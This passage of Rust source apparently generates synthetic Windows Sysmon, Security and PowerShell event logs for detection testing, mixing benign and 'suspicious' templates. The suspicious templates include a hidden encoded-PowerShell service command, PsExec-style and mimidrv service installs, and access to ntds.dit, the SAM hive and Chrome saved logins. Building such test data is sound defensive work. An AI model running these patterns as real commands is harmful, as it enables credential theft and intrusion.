                        ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated", "QWORD (0x01da9b2c-0x5e1f2a00)"),
                        ("C:\\Windows\\System32\\svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "QWORD (0x01da9b2c-0x12345678)"),
                        ("C:\\Users\\{{U}}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "HKU\\{{SID}}\\Software\\Microsoft\\OneDrive\\Accounts\\Business1\\LastSignInTime", "DWORD (0x6631a2b0)"),
                        ("C:\\Windows\\System32\\msiexec.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\{{R}}\\InstallProperties\\DisplayName", "7-Zip 23.01 (x64 edition)"),
                    ])
                };
                let mut t = String::new();
                self.fill(img, u, &mut t);
                let image = t.clone();
                self.fill(&key.replace("{{SID}}", &sid), u, &mut t);
                let target = t.clone();
                self.fill(details, u, &mut t);
                let det = t.clone();
                let g = self.guid();
                if set {
                    self.header(&mut o, 13, sysmon, sysprov, &host, &tc);
                    o.s("RuleName", "-")
                        .s("EventType", "SetValue")
                        .s("UtcTime", &utc)
                        .s("ProcessGuid", &g)
                        .n("ProcessId", self.rng.range(400, 65000))
                        .s("Image", &image)
                        .s("TargetObject", &target)
                        .s("Details", &det)
                        .s("User", &format!("CORP\\{u}"));
                } else {
                    let target = match target.rfind('\\') {
                        Some(i) if self.rng.chance(0.5) => target[..i].to_string(),
                        _ => target,
                    };
                    self.header(&mut o, 12, sysmon, sysprov, &host, &tc);
                    o.s("RuleName", "-")
                        .s(
                            "EventType",
                            if self.rng.chance(0.8) {
                                "CreateKey"
                            } else {
                                "DeleteKey"
                            },
                        )
                        .s("UtcTime", &utc)
                        .s("ProcessGuid", &g)
                        .n("ProcessId", self.rng.range(400, 65000))
                        .s("Image", &image)
                        .s("TargetObject", &target)
                        .s("User", &format!("CORP\\{u}"));
                }
            }
            // ---- Sysmon 22: DNS (4 %)
            8300..=8699 => {
                let s = self.rng.chance(0.015 * self.susp);
                susp = s;
                let (img, q) = if s {
                    (
                        *self.rng.pick(&[
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "C:\\Windows\\System32\\rundll32.exe",
                            "C:\\Users\\Public\\svc.exe",
                            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                            "C:\\Windows\\System32\\certutil.exe",
                        ]),
                        *self.rng.pick(SUSP_DOMAINS),
                    )
                } else {
                    (
                        *self.rng.pick(&[
                            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                            "C:\\Windows\\System32\\svchost.exe",
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                            "C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
                        ]),
                        *self.rng.pick(BENIGN_DOMAINS),
                    )
                };
                let g = self.guid();
                let ip = self.ext_ip();
                self.header(&mut o, 22, sysmon, sysprov, &host, &tc);
                o.s("RuleName", "-")
                    .s("UtcTime", &utc)
                    .s("ProcessGuid", &g)
                    .n("ProcessId", self.rng.range(400, 65000))
                    .s("QueryName", q)
                    .s("QueryStatus", "0")
                    .s("QueryResults", &format!("::ffff:{ip};"))
                    .s("Image", img)
                    .s("User", "NT AUTHORITY\\SYSTEM");
            }
            // ---- Sysmon 5: process terminate (4 %)
            8700..=9099 => {
                let image = self.process(false).image;
                let g = self.guid();
                self.header(&mut o, 5, sysmon, sysprov, &host, &tc);
                o.s("RuleName", "-")
                    .s("UtcTime", &utc)
                    .s("ProcessGuid", &g)
                    .n("ProcessId", self.rng.range(400, 65000))
                    .s("Image", &image)
                    .s("User", "NT AUTHORITY\\SYSTEM");
            }
            // ---- Security 4688 (3 %)
            9100..=9399 => {
                let Proc {
                    image,
                    cmd,
                    pimage,
                    user,
                    integ,
                    susp: s,
                    ..
                } = self.process(true);
                susp = s;
                let (dom, name) = user.split_once('\\').unwrap_or(("CORP", &user));
                let (dom, name) = (dom.to_string(), name.to_string());
                self.header(
                    &mut o,
                    4688,
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    &host,
                    &tc,
                );
                o.s("SubjectUserSid", "S-1-5-18")
                    .s(
                        "SubjectUserName",
                        &format!("{}$", host.split('.').next().unwrap()),
                    )
                    .s("SubjectDomainName", "CORP")
                    .s("SubjectLogonId", "0x3e7")
                    .s(
                        "NewProcessId",
                        &format!("0x{:x}", self.rng.range(0x100, 0xffff)),
                    )
                    .s("NewProcessName", &image)
                    .s("TokenElevationType", "%%1936")
                    .s(
                        "ProcessId",
                        &format!("0x{:x}", self.rng.range(0x100, 0xffff)),
                    )
                    .s("CommandLine", &cmd)
                    .s("TargetUserSid", "S-1-0-0")
                    .s("TargetUserName", &name)
                    .s("TargetDomainName", &dom)
                    .s("TargetLogonId", "0x0")
                    .s("ParentProcessName", &pimage)
                    .s(
                        "MandatoryLabel",
                        match integ.as_str() {
                            "System" => "S-1-16-16384",
                            "High" => "S-1-16-12288",
                            _ => "S-1-16-8192",
                        },
                    );
            }
            // ---- Security 4624 / 4625 (3 % + 0.5 %)
            9400..=9749 => {
                let failed = roll >= 9700;
                let ui = self.pick_user();
                let s = self.rng.chance(0.01 * self.susp);
                susp = s;
                let (ltype, lproc, auth) = if s {
                    *self.rng.pick(&[
                        (9u64, "seclogo", "Negotiate"),
                        (3, "NtLmSsp ", "NTLM"),
                        (10, "User32 ", "Negotiate"),
                        (3, "Kerberos", "Kerberos"),
                    ])
                } else {
                    *self.rng.pick(&[
                        (2u64, "User32 ", "Negotiate"),
                        (3, "Kerberos", "Kerberos"),
                        (3, "Kerberos", "Kerberos"),
                        (5, "Advapi  ", "Negotiate"),
                        (7, "User32 ", "Negotiate"),
                        (11, "User32 ", "Negotiate"),
                        (3, "NtLmSsp ", "NTLM"),
                    ])
                };
                let lg = self.guid();
                let ip = if s && self.rng.chance(0.5) {
                    self.ext_ip()
                } else {
                    self.int_ip()
                };
                let eid = if failed { 4625 } else { 4624 };
                self.header(
                    &mut o,
                    eid,
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    &host,
                    &tc,
                );
                o.s("SubjectUserSid", "S-1-5-18")
                    .s(
                        "SubjectUserName",
                        &format!("{}$", host.split('.').next().unwrap()),
                    )
                    .s("SubjectDomainName", "CORP")
                    .s("SubjectLogonId", "0x3e7")
                    .s("TargetUserSid", &self.sids[ui].clone())
                    .s("TargetUserName", USERS[ui])
                    .s("TargetDomainName", "CORP")
                    .s(
                        "TargetLogonId",
                        &format!("0x{:x}", self.rng.range(0x10000, 0xffffff)),
                    )
                    .n("LogonType", ltype)
                    .s("LogonProcessName", lproc)
                    .s("AuthenticationPackageName", auth)
                    .s(
                        "WorkstationName",
                        &self.hosts[self.rng.below(self.hosts.len())]
                            .split('.')
                            .next()
                            .unwrap()
                            .to_string(),
                    )
                    .s("LogonGuid", &lg)
                    .s("TransmittedServices", "-")
                    .s(
                        "LmPackageName",
                        if auth == "NTLM" { "NTLM V2" } else { "-" },
                    )
                    .n("KeyLength", if auth == "NTLM" { 128 } else { 0 })
                    .s("ProcessId", "0x2f0")
                    .s("ProcessName", "C:\\Windows\\System32\\lsass.exe")
                    .s("IpAddress", &ip)
                    .s("IpPort", &format!("{}", self.rng.range(49152, 65535)))
                    .s("ImpersonationLevel", "%%1833")
                    .s("ElevatedToken", "%%1843");
                if failed {
                    let (st, sub) = if s {
                        *self.rng.pick(&[
                            ("0xc000006e", "0xc0000072"),
                            ("0xc000015b", "0x0"),
                            ("0xc000006d", "0xc0000064"),
                        ])
                    } else {
                        ("0xc000006d", "0xc000006a")
                    };
                    o.s("Status", st)
                        .s("FailureReason", "%%2313")
                        .s("SubStatus", sub);
                }
            }
            // ---- Security 4663 (1 %)
            9750..=9849 => {
                let ui = self.pick_user();
                let u = USERS[ui];
                let s = self.rng.chance(0.015 * self.susp);
                susp = s;
                let (otype, tpl, proc_, mask) = if s {
                    *self.rng.pick(&[
                        ("File", "C:\\Windows\\NTDS\\ntds.dit", "C:\\Windows\\System32\\ntdsutil.exe", "0x1"),
                        ("File", "C:\\Users\\{{U}}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", "C:\\Users\\Public\\svc.exe", "0x1"),
                        ("Key", "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account", "C:\\Windows\\System32\\reg.exe", "0x20019"),
                        ("File", "C:\\Windows\\System32\\config\\SAM", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "0x1"),
                    ])
                } else {
                    *self.rng.pick(&[
                        (
                            "File",
                            "\\\\fileserver\\share\\Finance\\budget-{{R}}.xlsx",
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                            "0x1",
                        ),
                        (
                            "File",
                            "C:\\Data\\Projects\\{{R}}.docx",
                            "C:\\Windows\\explorer.exe",
                            "0x2",
                        ),
                        (
                            "File",
                            "C:\\Users\\{{U}}\\Documents\\notes.txt",
                            "C:\\Windows\\System32\\notepad.exe",
                            "0x1",
                        ),
                        (
                            "Key",
                            "\\REGISTRY\\MACHINE\\SOFTWARE\\Corp\\Agent",
                            "C:\\Program Files\\Corp\\agent.exe",
                            "0x20019",
                        ),
                    ])
                };
                let mut t = String::new();
                self.fill(tpl, u, &mut t);
                self.header(
                    &mut o,
                    4663,
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    &host,
                    &tc,
                );
                o.s("SubjectUserSid", &self.sids[ui].clone())
                    .s("SubjectUserName", u)
                    .s("SubjectDomainName", "CORP")
                    .s(
                        "SubjectLogonId",
                        &format!("0x{:x}", self.rng.range(0x10000, 0xffffff)),
                    )
                    .s("ObjectServer", "Security")
                    .s("ObjectType", otype)
                    .s("ObjectName", &t)
                    .s("HandleId", &format!("0x{:x}", self.rng.range(0x100, 0xfff)))
                    .s(
                        "AccessList",
                        if mask == "0x2" { "%%4417" } else { "%%4416" },
                    )
                    .s("AccessMask", mask)
                    .s(
                        "ProcessId",
                        &format!("0x{:x}", self.rng.range(0x100, 0xffff)),
                    )
                    .s("ProcessName", proc_)
                    .s("ResourceAttributes", "S:AI");
            }
            // ---- Service installs: Security 4697 (0.1 %), System 7045 (0.1 %)
            9850..=9869 => {
                let s = self.rng.chance(0.15 * self.susp.min(6.0));
                susp = s;
                let ui = self.pick_user();
                let (name, path) = if s {
                    *self.rng.pick(&[
                        (
                            "{{R}}",
                            "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {{B64}}",
                        ),
                        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
                        ("{{R}}", "\\\\127.0.0.1\\ADMIN$\\{{R}}.exe"),
                        ("WinUpdateSvc", "C:\\Users\\Public\\{{R}}.exe"),
                        ("{{R}}", "cmd.exe /c echo {{R}} > \\\\.\\pipe\\{{R}}"),
                        ("mimidrv", "C:\\Windows\\System32\\drivers\\mimidrv.sys"),
                    ])
                } else {
                    *self.rng.pick(&[
                        ("Google Update Service (gupdate)", "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc"),
                        ("Microsoft Edge Update Service (edgeupdate)", "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /svc"),
                        ("VMware Tools", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\""),
                        ("CrowdStrike Falcon Sensor Service", "\"C:\\Program Files\\CrowdStrike\\CSFalconService.exe\""),
                        ("Microsoft Defender Antivirus Network Inspection Service", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.23110.3-0\\NisSrv.exe\""),
                        ("SplunkForwarder", "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe\" service"),
                    ])
                };
                let mut t = String::new();
                self.fill(name, USERS[ui], &mut t);
                let sname = t.clone();
                self.fill(path, USERS[ui], &mut t);
                let spath = t.clone();
                if roll < 9860 {
                    self.header(
                        &mut o,
                        4697,
                        "Security",
                        "Microsoft-Windows-Security-Auditing",
                        &host,
                        &tc,
                    );
                    o.s("SubjectUserSid", "S-1-5-18")
                        .s(
                            "SubjectUserName",
                            &format!("{}$", host.split('.').next().unwrap()),
                        )
                        .s("SubjectDomainName", "CORP")
                        .s("SubjectLogonId", "0x3e7")
                        .s("ServiceName", &sname)
                        .s("ServiceFileName", &spath)
                        .s("ServiceType", "0x10")
                        .s("ServiceStartType", "2")
                        .s("ServiceAccount", "LocalSystem");
                } else {
                    self.header(
                        &mut o,
                        7045,
                        "System",
                        "Service Control Manager",
                        &host,
                        &tc,
                    );
                    o.s("ServiceName", &sname)
                        .s("ImagePath", &spath)
                        .s("ServiceType", "user mode service")
                        .s("StartType", "auto start")
                        .s("AccountName", "LocalSystem");
                }
            }
            // ---- PowerShell 4104 (1.3 %)
            _ => {
                let ui = self.pick_user();
                let s = self.rng.chance(0.015 * self.susp);
                susp = s;
                let tpl = if s {
                    *self.rng.pick(PS_SUSP)
                } else {
                    *self.rng.pick(PS_BENIGN)
                };
                let mut t = String::new();
                self.fill(tpl, USERS[ui], &mut t);
                let id = self.guid();
                let path = if self.rng.chance(0.5) {
                    format!(
                        "C:\\Users\\{}\\AppData\\Local\\Temp\\{}.ps1",
                        USERS[ui],
                        self.token()
                    )
                } else {
                    String::new()
                };
                self.header(
                    &mut o,
                    4104,
                    "Microsoft-Windows-PowerShell/Operational",
                    "Microsoft-Windows-PowerShell",
                    &host,
                    &tc,
                );
                o.n("MessageNumber", 1)
                    .n("MessageTotal", 1)
                    .s("ScriptBlockText", &t)
                    .s("ScriptBlockId", &id[1..id.len() - 1])
                    .s("Path", &path);
            }
        }
        o.end();
        susp
    }
}

fn main() {
    let mut count: u64 = 100_000;
    let mut seed: u64 = 1;
    let mut out: Option<String> = None;
    let mut susp = 1.0f64;
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        let mut v = || {
            it.next().unwrap_or_else(|| {
                eprintln!("{a} needs a value");
                std::process::exit(2)
            })
        };
        match a.as_str() {
            "--count" | "-n" => count = v().parse().expect("--count N"),
            "--seed" | "-s" => seed = v().parse().expect("--seed N"),
            "-o" | "--out" => out = Some(v()),
            "--suspicious" => susp = v().parse().expect("--suspicious FACTOR"),
            _ => {
                eprintln!(
                    "usage: gen-events [--count N] [--seed S] [--suspicious FACTOR] -o FILE.jsonl"
                );
                std::process::exit(2)
            }
        }
    }
    let Some(out) = out else {
        eprintln!("usage: gen-events [--count N] [--seed S] [--suspicious FACTOR] -o FILE.jsonl");
        std::process::exit(2)
    };
    let t0 = std::time::Instant::now();
    let mut g = Gen::new(seed, susp);
    let mut f = File::create(&out).unwrap_or_else(|e| {
        eprintln!("cannot create {out}: {e}");
        std::process::exit(1)
    });
    let mut buf: Vec<u8> = Vec::with_capacity(8 << 20);
    let mut n_susp = 0u64;
    let mut bytes = 0u64;
    for _ in 0..count {
        if g.event(&mut buf) {
            n_susp += 1;
        }
        if buf.len() >= (8 << 20) - 16_384 {
            f.write_all(&buf).expect("write");
            bytes += buf.len() as u64;
            buf.clear();
        }
    }
    f.write_all(&buf).expect("write");
    bytes += buf.len() as u64;
    eprintln!(
        "wrote {count} events ({n_susp} from suspicious templates, {:.1} MB) to {out} in {:.2} s",
        bytes as f64 / 1e6,
        t0.elapsed().as_secs_f64()
    );
}
